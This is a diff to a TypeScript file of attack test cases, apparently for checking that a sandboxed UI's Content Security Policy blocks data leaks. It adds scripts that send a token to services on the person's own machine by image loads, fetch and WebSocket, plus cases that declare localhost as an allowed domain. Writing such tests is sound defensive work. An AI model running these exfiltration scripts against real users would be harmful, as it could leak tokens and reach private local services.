@@ -8,6 +8,13 @@ const attack = ofClass('exfiltration', 'network');
 const FETCH = `await fetch(${leak('declared')}, { mode: 'no-cors' }).catch(() => {}); await A.wait(500)`;
 const IMAGE = `new Image().src = ${leak('declared-image')}; await A.wait(1000)`;
 
+/** Asks a service of the person's own machine. */
+const askMachine = (scheme: string, host: string): string => `
+  const service = '${scheme}://${host}:' + A.localPort + '/' + A.token;
+  new Image().src = service + '/image';
+  await fetch(service + '/fetch', { mode: 'no-cors' }).catch(() => {});
+  await A.wait(1000)`;
+
 const declares = (id: string, title: string, csp: Record<string, unknown>, script = FETCH): Attack =>
   attack(id, `declares ${title}`, { ui: { csp }, script });
 
@@ -56,5 +63,24 @@ export const DECLARED: readonly Attack[] = [
   attack('d12', 'asks for an origin of its own that is another site', {
     ui: { domain: 'http://{{name}}', csp: { connectDomains: ["'self'"] } },
     script: FETCH,
+  }),
+  attack('d13', 'declares a service of the person’s own machine, as a remote server', {
+    remote: true,
+    ui: {
+      csp: { connectDomains: ['http://localhost:{{localPort}}'], resourceDomains: ['http://localhost:{{localPort}}'] },
+    },
+    script: askMachine('http', 'localhost'),
+  }),
+  attack('d14', 'declares it by its address and a WebSocket, as a remote server', {
+    remote: true,
+    ui: { csp: { connectDomains: ['http://127.0.0.1:{{localPort}}', 'ws://localhost:{{localPort}}'] } },
+    script: `${askMachine('http', '127.0.0.1')}; new WebSocket('ws://localhost:' + A.localPort + '/' + A.token); await A.wait(700)`,
+  }),
+  attack('d15', 'shows a service of the person’s own machine as its page, as a remote server', {
+    remote: true,
+    external: true,
+    refused: true,
+    script: 'await A.wait(100)',
+    breach: ({ network }) => network.some(({ detail }) => detail.includes('/view')),
   }),
 ];
